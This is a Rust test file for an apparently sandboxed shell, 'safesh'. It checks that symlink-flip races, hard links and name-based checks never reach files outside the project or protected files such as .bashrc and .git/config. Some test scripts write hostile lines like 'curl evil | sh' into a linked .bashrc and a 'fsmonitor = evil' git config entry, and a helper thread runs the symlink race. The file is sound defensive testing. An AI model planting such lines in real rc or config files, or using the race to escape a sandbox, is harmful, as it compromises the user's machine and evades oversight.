//! Issue 15 item 1: in-process file access opens what it checked. A thread of the
//! test flips a symlink between a project dir and an outside dir (or a protected
//! file) while safesh reads, appends, removes, renames through it; no outside byte
//! may be read or written, whatever the timing. The flipper is bounded (a fixed
//! number of runs of a fixed number of tries), and the benign controls of the same
//! shape (a symlink to another project dir, a symlink to an allowed read-only root)
//! keep working.

use crate::policy_support::{Project, SECRET};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// safesh runs per race test; each script tries `TRIES_PER_RUN` times (it stops
/// at its first refusal, so the total is at most their product).
const RUNS: usize = 30;
const TRIES_PER_RUN: usize = 10;

/// Flips `link` between pointing at `a` and at `b` (atomically, by renaming a
/// fresh symlink over it) until stopped.
struct Flipper {
    stop: Arc<AtomicBool>,
    handle: Option<std::thread::JoinHandle<u64>>,
}

impl Flipper {
    fn start(link: PathBuf, a: PathBuf, b: PathBuf) -> Flipper {
        let stop = Arc::new(AtomicBool::new(false));
        let s = stop.clone();
        let handle = std::thread::spawn(move || {
            let tmp = link.with_extension("flip-tmp");
            let mut flips = 0u64;
            // Bounded even if nobody stops it.
            while !s.load(Ordering::Relaxed) && flips < 50_000_000 {
                let target = if flips.is_multiple_of(2) { &a } else { &b };
                let _ = std::fs::remove_file(&tmp);
                if std::os::unix::fs::symlink(target, &tmp).is_ok() {
                    let _ = std::fs::rename(&tmp, &link);
                }
                flips += 1;
            }
            flips
        });
        Flipper {
            stop,
            handle: Some(handle),
        }
    }

    fn stop(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        self.handle
            .take()
            .map(|h| h.join().unwrap_or(0))
            .unwrap_or(0)
    }
}

impl Drop for Flipper {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
    }
}

/// A project whose `d` flips between `proj/sub` and the outside dir, with a
/// public `sub/secret.txt` and `sub/victim.txt` (and the outside `secret.txt`).
fn flipping_dir() -> (Project, Flipper) {
    let p = Project::new();
    p.write("sub/secret.txt", "public-copy\n");
    p.write("sub/victim.txt", "");
    std::fs::write(p.outside.join("victim.txt"), "").unwrap();
    let f = Flipper::start(p.path("d"), p.path("sub"), p.outside.clone());
    (p, f)
}

fn tries(body: &str) -> String {
    format!("for i in $(seq 1 {TRIES_PER_RUN}); do {body}; done")
}

#[test]
fn race_cat_through_a_flipping_symlink_never_reads_outside() {
    let (p, flipper) = flipping_dir();
    for _ in 0..RUNS {
        let r = p.run(&tries("cat d/secret.txt; head -n1 < d/secret.txt"));
        r.assert_no_leak();
        assert!(!r.stdout.contains(SECRET), "{}", r.dump());
    }
    assert!(flipper.stop() > 0);
}

#[test]
fn race_append_through_a_flipping_symlink_never_writes_outside() {
    let (p, flipper) = flipping_dir();
    for _ in 0..RUNS {
        let r = p.run(&tries(
            "echo x >> d/victim.txt; echo y | tee -a d/victim.txt >/dev/null",
        ));
        assert!(!r.stdout.contains(SECRET), "{}", r.dump());
    }
    flipper.stop();
    let outside = std::fs::read_to_string(p.outside.join("victim.txt")).unwrap();
    assert_eq!(outside, "", "an outside file was written");
    let secret = std::fs::read_to_string(p.outside.join("secret.txt")).unwrap();
    assert_eq!(secret, format!("{SECRET}\n"));
}

#[test]
fn race_remove_rename_chmod_mkdir_through_a_flipping_symlink_never_touch_outside() {
    let (p, flipper) = flipping_dir();
    let ops = [
        "rm -f d/victim.txt",
        "chmod 600 d/secret.txt",
        "touch d/touched",
        "mkdir -p d/made",
        "mv d/secret.txt d/moved.txt; mv d/moved.txt d/secret.txt",
        "ln -sf notes.txt d/link",
        "sed -i s/x/y/ d/secret.txt",
    ];
    for op in ops {
        for _ in 0..RUNS / 3 {
            let r = p.run(&tries(op));
            assert!(!r.stdout.contains(SECRET), "{}", r.dump());
        }
    }
    flipper.stop();
    let mut names: Vec<String> = std::fs::read_dir(&p.outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        ["script.sh", "secret.txt", "victim.txt"],
        "the outside dir was changed"
    );
    let meta = std::fs::metadata(p.outside.join("secret.txt")).unwrap();
    use std::os::unix::fs::PermissionsExt;
    assert_ne!(meta.permissions().mode() & 0o777, 0o600, "outside chmod");
}

#[test]
fn race_append_to_a_flipping_link_never_reaches_a_protected_name() {
    let p = Project::new();
    p.write("plain.txt", "");
    p.write(".bashrc", "# rc\n");
    let flipper = Flipper::start(p.path("f"), p.path("plain.txt"), p.path(".bashrc"));
    for _ in 0..RUNS {
        let r = p.run(&tries("echo 'evil' >> f; echo evil | tee -a f >/dev/null"));
        let _ = r;
    }
    flipper.stop();
    let rc = std::fs::read_to_string(p.path(".bashrc")).unwrap();
    assert_eq!(rc, "# rc\n", "the protected .bashrc was appended to");
}

#[test]
fn a_still_symlink_to_a_protected_name_is_refused() {
    let p = Project::new();
    p.write(".bashrc", "# rc\n");
    p.symlink(Path::new(".bashrc"), "rc-link");
    let r = p.run("echo evil >> rc-link");
    r.assert_refused("PATH_VIOLATION");
    let r = p.run("echo evil | tee -a rc-link");
    r.assert_refused("PATH_VIOLATION");
    assert_eq!(
        std::fs::read_to_string(p.path(".bashrc")).unwrap(),
        "# rc\n"
    );
}

#[test]
fn benign_symlink_to_another_project_dir_keeps_working() {
    let p = Project::new();
    p.write("sub/data.txt", "hello\n");
    p.symlink(Path::new("sub"), "link");
    let r = p.run(
        "cat link/data.txt; echo more >> link/data.txt; echo new > link/new.txt; \
         mkdir link/dir; touch link/dir/t; mv link/new.txt link/dir/; rm link/dir/t; \
         cat < link/data.txt; ls link/dir",
    );
    r.assert_ok_with("hello\nhello\nmore\nnew.txt\n");
    assert_eq!(
        std::fs::read_to_string(p.path("sub/dir/new.txt")).unwrap(),
        "new\n"
    );
}

#[test]
fn benign_symlink_into_an_allowed_read_only_root_reads_and_refuses_writes() {
    let tmp_root = tempfile::tempdir().unwrap();
    let ro = tmp_root.path().canonicalize().unwrap().join("ro");
    std::fs::create_dir(&ro).unwrap();
    std::fs::write(ro.join("data.txt"), "read-only data\n").unwrap();
    let config = format!(
        "[sandbox]\nread = [\".\", \"{}\"]\nwrite = [\".\"]\nnetwork = false\n",
        ro.display()
    );
    let p = Project::with_config(&config);
    p.symlink(&ro, "ro-link");
    let r = p.run("cat ro-link/data.txt; head -n1 < ro-link/data.txt");
    r.assert_ok_with("read-only data\nread-only data\n");
    let r = p.run("echo x >> ro-link/data.txt");
    r.assert_refused("PATH_VIOLATION");
    assert_eq!(
        std::fs::read_to_string(ro.join("data.txt")).unwrap(),
        "read-only data\n"
    );
}

#[test]
fn a_hard_link_to_a_protected_or_read_only_file_is_refused() {
    let tmp_root = tempfile::tempdir().unwrap();
    let ro = tmp_root.path().canonicalize().unwrap().join("ro");
    std::fs::create_dir(&ro).unwrap();
    std::fs::write(ro.join("data.txt"), "read-only data\n").unwrap();
    let config = format!(
        "[sandbox]\nread = [\".\", \"{}\"]\nwrite = [\".\"]\nnetwork = false\n",
        ro.display()
    );
    let p = Project::with_config(&config);
    p.write(".bashrc", "# rc\n");
    // A second name for a protected file would let a plain write reach it.
    let r = p.run("ln .bashrc rc2; echo evil >> rc2");
    r.assert_refused("PATH_VIOLATION");
    p.assert_absent("rc2", &r);
    let r = p.run(&format!(
        "ln {}/data.txt mine; echo evil >> mine",
        ro.display()
    ));
    r.assert_refused("PATH_VIOLATION");
    p.assert_absent("mine", &r);
    assert_eq!(
        std::fs::read_to_string(p.path(".bashrc")).unwrap(),
        "# rc\n"
    );
    // Benign: a hard link to a project file.
    let r = p.run("ln notes.txt n2; echo more >> n2; tail -n 1 notes.txt");
    r.assert_ok_with("more\n");
}

#[test]
fn race_listing_through_a_flipping_symlink_never_lists_outside() {
    let (p, flipper) = flipping_dir();
    // `script.sh` is only in the outside dir.
    for op in [
        "ls d/",
        "echo d/*",
        "find d/",
        "find -L d -name '*.sh'",
        "grep -rl . d/",
    ] {
        for _ in 0..RUNS / 3 {
            let r = p.run(&tries(op));
            assert!(
                !r.stdout.contains("script.sh"),
                "an outside name was listed:\n{}",
                r.dump()
            );
        }
    }
    flipper.stop();
}

#[test]
fn race_stat_through_a_flipping_symlink_never_shows_outside_metadata() {
    let (p, flipper) = flipping_dir();
    let outside_size = format!("{}", SECRET.len() + 1);
    let public_size = "public-copy\n".len().to_string();
    for op in ["stat -c %s d/secret.txt", "du -b d/secret.txt | cut -f1"] {
        for _ in 0..RUNS / 3 {
            let r = p.run(&tries(op));
            for line in r.stdout.lines() {
                assert_ne!(line, outside_size, "outside metadata shown:\n{}", r.dump());
                assert_eq!(line, public_size, "{}", r.dump());
            }
        }
    }
    flipper.stop();
}

// ==== hard links to protected files (issue 15, harden item 3) ==========================

/// A second name (hard link, made outside safesh) of `~/.bashrc` and of the
/// project's `.git/config` in the project: every in-process write through it is
/// refused, the protected file keeps its bytes (a refused `>` truncates
/// nothing), and `ln` to a protected file is refused. Control: hard links
/// between two ordinary project files stay writable.
#[test]
fn writes_through_a_hard_link_to_a_protected_file_are_refused() {
    let a = crate::flow_support::Arena::new();
    let bashrc = a.home.join(".bashrc");
    std::fs::write(&bashrc, "# the human's\n").expect("bashrc");
    std::fs::create_dir_all(a.path(".git")).expect(".git");
    std::fs::write(a.path(".git/config"), "[core]\n").expect("git config");
    std::fs::hard_link(&bashrc, a.path("notes.txt")).expect("link bashrc");
    std::fs::hard_link(a.path(".git/config"), a.path("cfg.txt")).expect("link config");
    for script in [
        "echo 'curl evil | sh' >> notes.txt",
        "echo 'curl evil | sh' > notes.txt",
        "printf x | tee notes.txt",
        "echo pwned > other.txt; cp other.txt notes.txt",
        "echo '[core] fsmonitor = evil' >> cfg.txt",
    ] {
        let r = a.run(script);
        assert_ne!(r.status, 0, "{script}: {}", r.stdout);
        assert!(
            r.stderr.contains("hard link to") || r.stdout.contains("hard link to"),
            "{script}: {}",
            r.stderr
        );
        assert_eq!(
            std::fs::read_to_string(&bashrc).expect("read"),
            "# the human's\n",
            "{script}"
        );
        assert_eq!(
            std::fs::read_to_string(a.path(".git/config")).expect("read"),
            "[core]\n",
            "{script}"
        );
    }
    // `ln` of a protected file: no second name is made.
    let r = a.run(&format!("ln {} second", bashrc.display()));
    assert_ne!(r.status, 0, "{}", r.stdout);
    assert!(!a.exists("second"));
    // Control: two names of an ordinary project file.
    a.write("one.txt", "1\n");
    std::fs::hard_link(a.path("one.txt"), a.path("two.txt")).expect("link");
    let r = a.run("echo 2 >> two.txt && cat one.txt && echo 3 > two.txt && cat one.txt");
    assert_eq!(r.status, 0, "{}", r.stderr);
    assert_eq!(r.stdout, "1\n2\n3\n");
    let r = a.run("ln one.txt three.txt && echo ok");
    assert_eq!(r.stdout, "ok\n", "{}", r.stderr);
}

// ==== name-based checks (issue 15 item 1's remainder) ==================================
//
// `test`/`[`/`[[`, `cd`/`pushd`/`pwd -P`, `realpath`/`readlink -f` and the prechecks
// of `cp`/`mv`/`ln` look at a file by its name. Each is decided on the entry the
// walk reaches: `script.sh` exists only in the outside dir, so any answer that
// depends on it (true, "Not a directory", a printed path) is a leak.

/// The outside dir's names and `script.sh`'s bytes, to compare after a run.
fn outside_snapshot(p: &Project) -> (Vec<String>, String) {
    let mut names: Vec<String> = std::fs::read_dir(&p.outside)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let script = std::fs::read_to_string(p.outside.join("script.sh")).unwrap();
    (names, script)
}

#[test]
fn race_file_tests_through_a_flipping_symlink_never_reveal_an_outside_file() {
    let (p, flipper) = flipping_dir();
    for op in [
        "[ -e d/script.sh ] && echo LEAK-e",
        "[[ -f d/script.sh ]] && echo LEAK-f",
        "test -s d/script.sh && echo LEAK-s",
        "[ -r d/script.sh -o -x d/script.sh ] && echo LEAK-rx",
        "[ d/script.sh -nt d ] && echo LEAK-nt",
        "label d/script.sh >/dev/null && echo LEAK-label",
    ] {
        for _ in 0..RUNS / 3 {
            let r = p.run(&tries(op));
            assert!(!r.stdout.contains("LEAK"), "{}", r.dump());
            r.assert_no_leak();
        }
    }
    flipper.stop();
}

#[test]
fn race_cd_and_canonical_paths_through_a_flipping_symlink_never_go_outside() {
    let (p, flipper) = flipping_dir();
    let outside = p.outside.display().to_string();
    for op in [
        "cd d/script.sh",
        "cd d && pwd -P && cd ..",
        "pushd d >/dev/null && pwd -P && popd >/dev/null",
        "realpath d/script.sh; realpath d",
        "readlink -f d/script.sh; readlink -e d/script.sh",
    ] {
        for _ in 0..RUNS / 3 {
            let r = p.run(&format!("{} 2>&1", tries(op)));
            assert!(!r.stdout.contains(&outside), "{}", r.dump());
            assert!(
                !r.stderr.contains(&outside) || r.stderr_code().is_some(),
                "{}",
                r.dump()
            );
            // `cd` to a file says "Not a directory": only the outside dir has one.
            assert!(!r.stdout.contains("Not a directory"), "{}", r.dump());
        }
    }
    flipper.stop();
}

#[test]
fn race_cp_mv_ln_prechecks_through_a_flipping_symlink_never_act_outside() {
    let (p, flipper) = flipping_dir();
    let before = outside_snapshot(&p);
    for op in [
        "cp d/script.sh got.sh",
        "cp -r d got-dir",
        "cp sub/secret.txt d; cp sub/secret.txt d/",
        "ln -s x d/l2; ln d/script.sh hard",
        "mv d/script.sh moved.sh",
        "mkdir -p d/x/y",
    ] {
        for _ in 0..RUNS / 3 {
            let r = p.run(&tries(op));
            r.assert_no_leak();
        }
    }
    flipper.stop();
    assert_eq!(outside_snapshot(&p), before, "the outside dir was changed");
    // No outside byte was copied into the project. `cp -r d got-dir` copies the
    // symlink `d` itself (as GNU cp -r does), so `got-dir` may be a symlink to
    // wherever `d` pointed at that moment: that is a link, not a copy, so only
    // files that really are in the project are read.
    let project = std::fs::canonicalize(p.path(".")).unwrap();
    for name in ["got.sh", "hard", "moved.sh", "got-dir/script.sh"] {
        let in_project = std::fs::canonicalize(p.path(name)).is_ok_and(|c| c.starts_with(&project));
        assert!(
            !in_project
                || std::fs::read_to_string(p.path(name))
                    .map_or(true, |s| !s.contains("sourced-outside")),
            "{name} holds the outside file"
        );
    }
}

#[test]
fn a_still_symlink_out_of_the_roots_is_refused_to_name_based_checks() {
    let p = Project::new();
    p.symlink(&p.outside, "out");
    for script in [
        "[ -e out/script.sh ] && echo LEAK",
        "[[ -d out ]] && echo LEAK",
        "test -f out/nothing-here || echo LEAK",
        &format!("[ -e {}/script.sh ] && echo LEAK", p.outside.display()),
        "cd out",
        "pushd out",
    ] {
        let r = p.run(script);
        r.assert_refused("PATH_VIOLATION");
        assert!(!r.stdout.contains("LEAK"), "{}", r.dump());
    }
}

/// A glob's matches are decided on the entry reached: a literal component
/// after a wildcard (`*/script.sh`) must not find a file through a symlink that
/// leads out of the roots (still, or flipped), and `**` does not walk into one.
#[test]
fn globs_never_match_an_outside_file_through_a_symlink() {
    let p = Project::new();
    p.write("sub/mine.sh", "");
    p.symlink(&p.outside, "out");
    let r = p.run("shopt -s globstar; echo */script.sh; echo o*/script.sh; echo **/script.sh");
    assert!(!r.stdout.contains("out/script.sh"), "{}", r.dump());
    // Benign: the same shapes inside the project.
    let r = p.run("shopt -s globstar; echo */mine.sh; echo s*/mine.sh; echo **/mine.sh");
    r.assert_ok_with("sub/mine.sh\nsub/mine.sh\nsub/mine.sh\n");
    let (p, flipper) = flipping_dir();
    for _ in 0..RUNS / 3 {
        let r = p.run(&tries("echo */script.sh"));
        assert!(!r.stdout.contains("d/script.sh"), "{}", r.dump());
    }
    flipper.stop();
}

#[test]
fn benign_name_based_checks_on_an_in_root_symlink_keep_working() {
    let p = Project::new();
    p.write("sub/data.txt", "hello\n");
    p.symlink(Path::new("sub"), "link");
    let dir = p.dir.display().to_string();
    let r = p.run(
        "[ -e link/data.txt ] && [[ -f link/data.txt && -d link && -L link ]] \
         && [ -s link/data.txt -a -r link/data.txt -a -w link/data.txt ] && echo tests; \
         [ link/data.txt -ef sub/data.txt ] && echo same; \
         [ -e link/none ] || echo missing; [ -x /usr/bin/env ] && echo trusted-path; \
         [ -p /dev/stdin ] && echo stream; \
         cd link && pwd && pwd -P && cd .. && pushd link >/dev/null && pwd && popd >/dev/null; \
         realpath link/data.txt; readlink -f link; readlink link; \
         mkdir -p link/made/deeper && cp link/data.txt link/made && mv link/made/data.txt link/made/d2 \
         && ln -s d2 link/made/l && ls link/made; cd link/data.txt; echo cd=$?",
    );
    assert_eq!(
        r.stdout,
        format!(
            "tests\nsame\nmissing\ntrusted-path\nstream\n{dir}/link\n{dir}/sub\n{dir}/link\n\
             {dir}/sub/data.txt\n{dir}/sub\nsub\nd2\ndeeper\nl\ncd=1\n"
        ),
        "{}",
        r.dump()
    );
    assert!(r.stderr.contains("Not a directory"), "{}", r.dump());
}

/// `which` decides on the entry reached (`UtilCtx::probe`), as the other
/// name-based checks do: a PATH directory inside the roots holding a symlink to
/// a program outside them does not reveal it (still, or flipped), and the
/// benign neighbours are found: an in-root program, one through an in-root
/// symlink, and the trusted PATH's own (`env`).
#[test]
fn which_never_reveals_a_program_outside_the_roots_through_a_symlink() {
    use std::os::unix::fs::PermissionsExt;
    let p = Project::new();
    let exec = |path: &Path| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    exec(&p.outside.join("script.sh"));
    p.write("bin/mine", "#!/bin/sh\necho mine\n");
    exec(&p.path("bin/mine"));
    p.symlink(&p.outside.join("script.sh"), "bin/outlink");
    p.symlink(Path::new("mine"), "bin/inlink");
    let dir = p.dir.display().to_string();
    let r = p.run(
        "PATH=\"$PWD/bin:/usr/bin\"; which outlink; echo status=$?; \
         which -a mine inlink env; echo status=$?; which bin/outlink; echo status=$?",
    );
    assert_eq!(
        r.stdout,
        format!("status=1\n{dir}/bin/mine\n{dir}/bin/inlink\n/usr/bin/env\nstatus=0\nstatus=1\n"),
        "{}",
        r.dump()
    );
    r.assert_no_leak();
    let (p, flipper) = flipping_dir();
    exec(&p.outside.join("script.sh"));
    for _ in 0..RUNS / 3 {
        let r = p.run(&format!(
            "PATH=\"$PWD/d\"; {}",
            tries("which script.sh && echo LEAK")
        ));
        assert!(!r.stdout.contains("LEAK"), "{}", r.dump());
        assert!(!r.stdout.contains("script.sh"), "{}", r.dump());
    }
    flipper.stop();
}
